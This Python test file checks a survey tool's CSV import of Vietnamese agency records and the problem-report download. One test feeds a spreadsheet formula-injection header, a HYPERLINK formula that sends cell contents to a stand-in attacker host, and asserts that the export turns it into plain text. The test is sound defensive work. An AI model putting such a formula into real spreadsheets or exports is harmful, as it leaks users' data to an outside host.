"""The file's own column names are recorded at import and used by the problems download."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import openpyxl
import pytest
from sqlalchemy.engine import Engine
from sqlmodel import Session

from survey.errors import InvalidInput
from survey.frame_files import resolve_columns
from survey.frame_problem_exports import ProblemSheetWords, export_frame_problems
from survey.frames import get_frame, import_frame
from survey.models.frames import Frame
from tests.survey.design_frames import frame_rows, write_csv

# Vietnamese headers as an agency's export writes them; "Hình thức" is mapped by hand.
VN_HEADER = (
    "Mã hồ sơ",
    "Mã cơ quan",
    "Tên cơ quan",
    "Mã tỉnh",
    "Mã xã",
    "Cấp",
    "Lĩnh vực",
    "Hình thức",
    "Ngày tiếp nhận",
    "Ngày trả kết quả",
    "Số điện thoại",
)
FIELDS_OF_VN_HEADER = (
    "dossier_code",
    "agency_code",
    "agency_name",
    "province_code",
    "commune_code",
    "level",
    "procedure_field",
    "channel",
    "received_date",
    "completed_date",
    "phone",
)
WORDS = ProblemSheetWords(
    headings=("row", "file column", "field", "severity", "message"),
    severities={"error": "ERR", "warning": "WARN"},
)


def _vn_file(tmp_path: Path, channel_header: str = "Hình thức") -> Path:
    rows = [list(r) for r in frame_rows({("A", "01"): 4})]
    rows[1][5] = "cấp lạ"  # an unknown level: an error
    rows[2][10] = ""  # no phone: a warning
    rows[3][7] = "bồ câu"  # an unknown channel: an error in the column named by hand
    header = [channel_header if h == "Hình thức" else h for h in VN_HEADER]
    return write_csv(tmp_path / "vn.csv", rows, header=header)


def test_import_records_the_header_of_each_field_as_written(
    engine: Engine, session: Session, tmp_path: Path
) -> None:
    report = import_frame(
        engine=engine,
        source=_vn_file(tmp_path),
        name="tiêu đề",
        column_map={"Hình thức": "channel"},
        accept_valid_rows=True,
    )
    assert report.status == "ready"
    frame = session.get(Frame, report.frame_id)
    assert frame is not None
    assert frame.column_headers["dossier_code"] == "Mã hồ sơ"
    assert frame.column_headers["channel"] == "Hình thức"
    assert frame.column_headers["completed_date"] == "Ngày trả kết quả"
    assert frame.column_headers["phone"] == "Số điện thoại"
    assert len(frame.column_headers) == len(VN_HEADER)
    assert get_frame(session, report.frame_id).column_headers == frame.column_headers


def test_a_rejected_import_keeps_the_headers_too(
    engine: Engine, session: Session, tmp_path: Path
) -> None:
    report = import_frame(
        engine=engine,
        source=_vn_file(tmp_path),
        name="bị từ chối",
        column_map={"Hình thức": "channel"},
    )
    assert report.status == "rejected"
    assert get_frame(session, report.frame_id).column_headers["level"] == "Cấp"


def test_the_problems_download_names_the_files_columns_and_neutralises_formulas(
    engine: Engine, session: Session, tmp_path: Path
) -> None:
    # A header that a spreadsheet would run as a formula, mapped by hand to the channel.
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Kênh")'
    report = import_frame(
        engine=engine,
        source=_vn_file(tmp_path, channel_header=formula),
        name="tải về",
        column_map={formula: "channel"},
        accept_valid_rows=True,
    )
    export = export_frame_problems(
        session=session,
        frame_id=report.frame_id,
        fmt="csv",
        words=WORDS,
        translate=lambda message: "T:" + message,
    )
    assert export.filename == f"frame-{report.frame_id}-problems.csv"
    body = b"".join(export.chunks).decode("utf-8")
    assert body.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(body.lstrip("\ufeff"))))
    assert rows[0] == ["row", "file column", "field", "severity", "message"]
    by_field = {r[2]: r for r in rows[1:]}
    assert set(by_field) == {"level", "phone", "channel"}
    assert [r[0] for r in rows[1:]] == ["3", "4", "5"]  # in row order
    assert by_field["level"][:4] == ["3", "Cấp", "level", "ERR"]
    assert by_field["level"][4].startswith("T:level 'cấp lạ' is not known")
    assert by_field["phone"][:4] == ["4", "Số điện thoại", "phone", "WARN"]
    assert by_field["channel"][1] == "'" + formula  # text, never a formula

    xlsx = export_frame_problems(
        session=session,
        frame_id=report.frame_id,
        fmt="xlsx",
        words=WORDS,
        translate=lambda message: "=" + message,  # a formula-looking message stays text
    )
    assert xlsx.filename.endswith(".xlsx")
    book = openpyxl.load_workbook(io.BytesIO(b"".join(xlsx.chunks)))
    sheet = book.worksheets[0]
    values = [[c.value for c in row] for row in sheet.iter_rows()]
    assert values[0] == ["row", "file column", "field", "severity", "message"]
    assert values[1][:4] == [3, "Cấp", "level", "ERR"]
    assert values[3][1] == "'" + formula
    for row in sheet.iter_rows(min_row=2):
        assert row[1].data_type == "s" or row[1].value is None
        assert row[4].data_type == "s" and str(row[4].value).startswith("'=")


def test_without_aliases_only_the_mapped_columns_are_read() -> None:
    headers = [*VN_HEADER]
    whole = {h: f for h, f in zip(VN_HEADER, FIELDS_OF_VN_HEADER, strict=True) if f != "phone"}
    with_aliases = resolve_columns(headers, whole)
    assert with_aliases["phone"] == VN_HEADER.index("Số điện thoại")  # read by its name
    exact = resolve_columns(headers, whole, aliases=False)
    assert "phone" not in exact and exact["channel"] == VN_HEADER.index("Hình thức")
    assert len(exact) == len(VN_HEADER) - 1
    with pytest.raises(InvalidInput) as refused:
        resolve_columns(headers, {"Mã hồ sơ": "dossier_code"}, aliases=False)
    assert any("agency_code" in p.msg for p in refused.value.problems)


def test_a_csv_without_a_phone_column_imports_its_dossiers_as_not_contactable(
    engine: Engine, session: Session, tmp_path: Path
) -> None:
    # Found through the mapping form: a CSV with no phone column made the importer fail.
    rows = [r[:10] for r in frame_rows({("A", "01"): 3})]
    report = import_frame(
        engine=engine,
        source=write_csv(tmp_path / "no_phone.csv", rows, header=VN_HEADER[:10]),
        name="không có số điện thoại",
        column_map={"Hình thức": "channel"},
    )
    assert report.status == "ready" and report.imported == 3
    assert report.not_contactable == 3 and "phone" not in report.column_headers
